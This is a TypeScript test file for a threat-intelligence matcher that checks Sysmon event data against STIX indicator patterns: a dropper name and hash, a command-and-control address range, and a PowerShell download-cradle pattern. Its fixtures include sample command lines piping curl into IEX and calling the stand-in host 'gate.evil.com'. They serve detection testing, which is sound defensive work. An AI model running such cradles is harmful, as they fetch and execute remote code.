import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, it } from 'vitest'
import { lookUpOne } from '../../src/app/look-up.ts'
import { openOffline, type Offline } from '../../src/app/offline.ts'
import { examine, matchesOf } from '../../src/app/scan.ts'
import { loadConfig } from '../../src/config/load.ts'
import { alertOf } from '../support/alerts.ts'
import { recordedTelemetry } from '../support/telemetry.ts'

const MD5 = '79054025255fb1a26e4bc422aef54eb4'
const PATTERNS = {
  'dropper-by-name': `[file:name = 'invoice.exe' AND file:hashes.MD5 = '${MD5}']`,
  'gate-on-port':
    "[network-traffic:dst_ref.value = '203.0.114.0/24' AND network-traffic:dst_port IN (443, 8443)]",
  cradle:
    "[domain-name:value = 'gate.evil.com' AND process:command_line MATCHES 'iex|invoke-(?:web)?expression']",
  'not-from-there': "[url:value = 'http://gate.evil.com/a' AND process:name NOT LIKE '%updater%']",
}

const never = new AbortController().signal
let dir: string
let offline: Offline

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'tripline-stix-'))
  const objects = Object.entries(PATTERNS).map(([name, pattern], at) => ({
    type: 'indicator',
    spec_version: '2.1',
    id: `indicator--5f0c7a4e-1c2d-4b3a-9e8f-00112233445${at}`,
    name,
    pattern_type: 'stix',
    pattern,
  }))
  const bundle = { type: 'bundle', id: 'bundle--5f0c7a4e-1c2d-4b3a-9e8f-001122334455', objects }
  await writeFile(join(dir, 'bundle.json'), JSON.stringify(bundle))
  const { config } = await loadConfig({ env: { TRIPLINE_FEEDS: join(dir, 'bundle.json') } })
  offline = await openOffline({ config, telemetry: recordedTelemetry(), signal: never })
})
afterEach(async () => {
  await offline.close()
  await rm(dir, { recursive: true })
})

/** Titles of what matches an alert of Sysmon, with kinds. */
async function found(eventdata: Record<string, unknown>): Promise<readonly string[]> {
  const { analyses } = await examine([alertOf({ data: { win: { eventdata } } })], offline, never)
  return matchesOf(analyses, offline, 0)
    .matches.flatMap(({ indicators }) =>
      indicators.map(({ indicator, kind }) => `${kind} ${indicator.title}`),
    )
    .toSorted()
}

it.each<[about: string, eventdata: Record<string, unknown>, titles: readonly string[]]>([
  [
    'name and digest',
    { image: 'C:\\Temp\\INVOICE.exe', hashes: `MD5=${MD5.toUpperCase()},IMPHASH=x` },
    ['pattern dropper-by-name'],
  ],
  ['the digest under another name', { image: 'C:\\Temp\\setup.exe', hashes: `MD5=${MD5}` }, []],
  [
    'the name with another digest',
    { image: 'C:\\Temp\\invoice.exe', hashes: `MD5=${MD5.replace('7', '8')}` },
    [],
  ],
  ['network and port', { destinationIp: '203.0.114.9', destinationPort: '8443' }, ['pattern gate-on-port']],
  ['another port', { destinationIp: '203.0.114.9', destinationPort: '80' }, []],
  ['the other end', { sourceIp: '203.0.114.9', destinationIp: '9.9.9.9', destinationPort: '443' }, []],
  [
    'name and command line',
    { queryName: 'gate.evil.com', commandLine: "powershell IEX (curl 'http://x.invalid')" },
    ['pattern cradle'],
  ],
  ['another command line', { queryName: 'gate.evil.com', commandLine: 'ping' }, []],
  [
    'URL and not that process',
    { commandLine: 'curl http://gate.evil.com/a', image: '/usr/bin/curl' },
    ['pattern not-from-there'],
  ],
  ['URL and that process', { commandLine: 'x http://gate.evil.com/a', image: '/opt/My-Updater-2' }, []],
])('%s', async (_about, eventdata, titles) => {
  expect(await found(eventdata)).toEqual(titles)
})

it('a value by itself is no match of a pattern of several parts', async () => {
  const observable = { type: 'md5', value: MD5, where: ['lookup'] } as const
  expect(offline.index.find(observable)).toHaveLength(1)
  expect((await lookUpOne(observable, offline, { now: 0, signal: never })).indicators).toEqual([])
})
